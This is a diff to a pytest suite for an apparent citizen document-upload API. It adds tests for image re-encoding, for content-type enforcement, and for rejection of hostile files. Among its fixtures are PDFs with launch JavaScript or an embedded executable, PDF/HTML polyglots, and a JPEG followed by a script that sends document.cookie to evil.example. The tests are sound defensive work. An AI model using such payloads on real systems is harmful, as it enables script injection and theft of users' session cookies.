@@ -5,10 +5,13 @@ stored bytes itself on `/uploads/{id}/complete` and at submission."""
 from __future__ import annotations
 
 import hashlib
+import io
 import uuid
 
+import pikepdf
 import pytest
 import requests
+from PIL import Image
 
 from .conftest import JPEG, PDF, PNG, Api
 from .test_dossier_flow import PERSON
@@ -57,8 +60,19 @@ def citizen(api, make_user) -> Api:
     return api(make_user("citizen"))
 
 
-def test_a_verified_upload_shows_the_sha256_and_size_of_the_bytes_sent(api, citizen, make_user):
-    content = JPEG + uuid.uuid4().bytes * 10
+def stored_object(aws, stack, created: dict) -> dict:
+    """The object as it sits in the documents bucket, behind the API."""
+    return aws("s3").get_object(Bucket=stack["DOCUMENTS_BUCKET"], Key=created["upload"]["fields"]["key"])
+
+
+def test_a_verified_upload_shows_the_sha256_and_size_of_the_bytes_stored(api, aws, stack, citizen, make_user):
+    """A photo is re-encoded before it is kept: what rode after its end (here, camera-style binary data) is
+    gone, and the size and hash shown are those of the stored object."""
+    shade = uuid.uuid4().bytes
+    image = io.BytesIO()
+    Image.new("RGB", (16, 12), (shade[0], shade[1], shade[2])).save(image, "JPEG")
+    photo = image.getvalue()
+    content = photo + b"\x00\x01" + uuid.uuid4().bytes * 10
     created = start_upload(citizen, "relationship-proof", "image/jpeg", len(content), "giay-khai-sinh.jpg")
     assert created.status_code == 201, created.text
     upload = created.json()
@@ -67,9 +81,12 @@ def test_a_verified_upload_shows_the_sha256_and_size_of_the_bytes_sent(api, citi
 
     verified = citizen.post(f"/uploads/{upload['id']}/complete")
     assert verified.status_code == 200, verified.text
+    stored = stored_object(aws, stack, upload)
+    kept = stored["Body"].read()
+    assert kept == photo and stored["ContentType"] == "image/jpeg"
     expected = {"id": upload["id"], "status": "verified", "procedure_code": KIN_CERTIFICATE,
                 "component_id": "relationship-proof", "file_name": "giay-khai-sinh.jpg",
-                "content_type": "image/jpeg", "size": len(content), "sha256": hashlib.sha256(content).hexdigest(),
+                "content_type": "image/jpeg", "size": len(kept), "sha256": hashlib.sha256(kept).hexdigest(),
                 "attached_to": None}
     assert verified.json() == expected
     assert citizen.get(f"/uploads/{upload['id']}").json() == expected
@@ -81,6 +98,57 @@ def test_a_verified_upload_shows_the_sha256_and_size_of_the_bytes_sent(api, citi
                          stranger.post(f"/uploads/{upload['id']}/complete")):
             assert errors_of(response, 404) == []
             assert response.json()["code"] == "upload_not_found"
+
+
+def test_the_stored_content_type_is_the_verified_one_not_the_clients(aws, stack, citizen):
+    created = start_upload(citizen).json()
+    target = created["upload"]
+    # moto, like a hostile client's own S3 request, lets the form set any Content-Type.
+    sent = requests.post(target["url"], data={**target["fields"], "Content-Type": "text/html"},
+                         files={"file": ("don.pdf", PDF, "text/html")}, timeout=60)
+    assert sent.status_code in (200, 201, 204), sent.text
+    assert stored_object(aws, stack, created)["ContentType"] == "text/html"
+
+    verified = citizen.post(f"/uploads/{created['id']}/complete")
+    assert verified.status_code == 200, verified.text
+    stored = stored_object(aws, stack, created)
+    assert stored["ContentType"] == "application/pdf" and stored["Body"].read() == PDF
+
+
+def hostile_pdf(build) -> bytes:
+    pdf, out = pikepdf.new(), io.BytesIO()
+    pdf.add_blank_page()
+    build(pdf)
+    pdf.save(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(("content", "code"), [
+    pytest.param(lambda: hostile_pdf(lambda pdf: setattr(pdf.Root, "OpenAction", pikepdf.Dictionary(
+        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://evil.example')")))),
+        "file.pdf_active_content", id="javascript-on-opening"),
+    pytest.param(lambda: hostile_pdf(lambda pdf: pdf.attachments.__setitem__(
+        "run.exe", pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00"))), "file.pdf_embedded_files", id="attachment"),
+    pytest.param(lambda: b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n",
+                 "file.malformed", id="pdf-header-then-html"),
+    pytest.param(lambda: PDF + b"<html><script>alert(1)</script></html>", "file.polyglot", id="pdf-then-html"),
+])
+def test_a_hostile_pdf_is_refused_with_its_code_and_stays_rejected(citizen, content, code):
+    data = content()
+    created = start_upload(citizen, size=len(data)).json()
+    send_to_s3(created, data, "application/pdf")
+    assert errors_of(citizen.post(f"/uploads/{created['id']}/complete")) == [("upload", code)]
+    assert citizen.get(f"/uploads/{created['id']}").json()["status"] == "rejected"
+    assert errors_of(citizen.post(f"/uploads/{created['id']}/complete")) == [("upload", code)]
+
+
+def test_a_jpeg_followed_by_a_script_is_refused_as_a_polyglot(citizen):
+    content = JPEG + b"<script>fetch('https://evil.example/?' + document.cookie)</script>"
+    created = start_upload(citizen, "relationship-proof", "image/jpeg", len(content), "anh.jpg").json()
+    send_to_s3(created, content, "image/jpeg")
+    assert errors_of(citizen.post(f"/uploads/{created['id']}/complete")) == [("upload", "file.polyglot")]
+    again = citizen.post(f"/uploads/{created['id']}/complete", headers={"Accept-Language": "en"})
+    assert "another kind of file" in again.json()["errors"][0]["message"]
 
 
 def test_png_bytes_declared_as_pdf_are_rejected_and_cannot_be_attached(citizen):
